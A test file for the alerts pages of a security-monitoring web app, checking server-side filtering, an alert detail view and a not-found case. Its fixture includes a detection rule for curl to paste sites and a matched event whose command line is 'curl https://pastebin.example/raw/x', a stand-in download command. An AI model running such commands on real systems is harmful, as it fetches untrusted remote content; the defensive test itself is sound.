import { fireEvent, render, screen, waitFor } from '@testing-library/react';
import { describe, expect, test } from 'vitest';
import { App } from '../App.tsx';
import { HttpClient } from '../api/http-client.ts';
import { fakeServer, type Handler } from '../test/fake-server.ts';

const USER = {
  id: 'u1',
  email: 'a@example.test',
  username: 'a',
  display_name: 'Ana',
  role: 'analyst',
  org: { id: 'o1', slug: 'default', name: 'Default' },
  is_instance_admin: false,
  permissions: ['alerts:read', 'events:read', 'rules:read'],
};

const ALERT = {
  id: 'al1',
  title: 'Suspicious curl to pastebin',
  severity: 'high',
  status: 'open',
  kind: 'rule',
  rule: { id: 'r1', rule_id: 'sigma-1', title: 'Curl to paste site', version: 2 },
  device_id: 'dev-123456789',
  group_key: 'host-1',
  first_seen: '2026-11-23T10:00:00.000Z',
  last_seen: '2026-11-23T10:05:00.000Z',
  count: 3,
  matched_event_ids: ['e1'],
  mitre: { techniques: ['T1105'], tactics: ['command_and_control'] },
  details: {},
  created_at: '2026-11-23T10:00:00.000Z',
  updated_at: '2026-11-23T10:05:00.000Z',
};

function start(path: string, routes: Record<string, Handler>) {
  window.history.pushState({}, '', path);
  const server = fakeServer({ 'GET /api/v1/auth/me': () => ({ status: 200, body: USER }), ...routes });
  render(<App http={new HttpClient({ fetch: server.fetch, cookies: () => '' })} />);
  return server;
}

describe('alerts', () => {
  test('the queue filters on the server: open by default, severity at or above, text', async () => {
    const server = start('/alerts', {
      'GET /api/v1/alerts': () => ({ status: 200, body: { items: [ALERT], next_cursor: null } }),
    });
    expect(await screen.findByRole('link', { name: ALERT.title })).toBeTruthy();
    // The queue's own requests (the page also asks /alerts/counts).
    const lastList = () => server.requests.filter((r) => r.path.startsWith('/api/v1/alerts?')).at(-1);
    expect(lastList()?.path).toContain('status=open');
    fireEvent.change(screen.getByLabelText(/Severity at or above/), { target: { value: 'high' } });
    await waitFor(() => expect(lastList()?.path).toContain('severity=high'));
    fireEvent.change(screen.getByLabelText(/Search/), { target: { value: 'curl' } });
    fireEvent.click(screen.getByRole('button', { name: 'Filter' }));
    await waitFor(() => expect(lastList()?.path).toContain('q=curl'));
  });

  test('the detail shows the matched events, their raw JSON and the rule version that fired', async () => {
    start('/alerts/al1', {
      'GET /api/v1/alerts/al1': () => ({
        status: 200,
        body: {
          ...ALERT,
          events: [
            {
              id: 'e1',
              device_id: 'dev-123456789',
              ts: '2026-11-23T10:00:00.000Z',
              received_at: '2026-11-23T10:00:01.000Z',
              source: 'agent',
              logsource: { product: 'linux', category: 'process_creation' },
              severity: null,
              title: 'process_start',
              fields: { Image: '/usr/bin/curl', CommandLine: 'curl https://pastebin.example/raw/x' },
            },
          ],
          rule_version: {
            rule: 'r1',
            version: 2,
            title: 'Curl',
            yaml: 'title: Curl to paste site\n',
            created_at: null,
          },
        },
      }),
    });
    expect(await screen.findByRole('heading', { level: 1, name: ALERT.title })).toBeTruthy();
    expect(screen.getByText('/usr/bin/curl')).toBeTruthy();
    expect(screen.getByText('title: Curl to paste site')).toBeTruthy();
    expect(screen.getByText('T1105')).toBeTruthy();
    expect(screen.getByText(/"CommandLine": "curl https:\/\/pastebin.example\/raw\/x"/)).toBeTruthy();
  });

  test('an unknown alert is "not found", not "not available"', async () => {
    start('/alerts/zz', {
      'GET /api/v1/alerts/zz': () => ({
        status: 404,
        body: { error: { code: 'alert_not_found', message: 'No such alert.', details: null } },
      }),
    });
    expect(await screen.findByText('No such alert.')).toBeTruthy();
  });
});
